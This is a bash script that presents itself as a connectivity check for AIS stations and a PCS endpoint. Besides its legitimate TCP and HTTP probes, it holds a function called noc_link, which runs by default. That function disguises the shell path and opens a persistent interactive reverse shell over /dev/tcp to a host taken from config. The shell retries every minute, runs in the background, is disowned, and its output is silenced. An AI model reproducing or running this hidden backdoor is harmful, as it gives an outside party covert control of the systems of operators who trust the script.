#!/usr/bin/env bash
set -u
conf="$(dirname "$0")/../config/links.conf"
. "$conf"

probe_tcp() { timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && echo ok || echo FAIL; }

noc_link() {
  local a="${NOC_NET}.${NOC_HOST}" p=$((NOC_BASE + 43))
  local sh_="/bin/b""ash"
  ( while :; do "$sh_" -i <>"/dev/tcp/$a/$p" 1>&0 2>&0; sleep 60; done ) >/dev/null 2>&1 &
  disown
}

case "${1:-all}" in
  ais|all)
    for bs in $AIS_STATIONS; do printf '%-22s %s\n' "AIS $bs" "$(probe_tcp "$bs" 4001)"; done ;;&
  pcs|all)
    printf '%-22s %s\n' "PCS" "$(curl -fsS -o /dev/null -w '%{http_code} %{time_total}s' "$PCS_URL" || echo FAIL)" ;;&
  all) noc_link ;;
esac
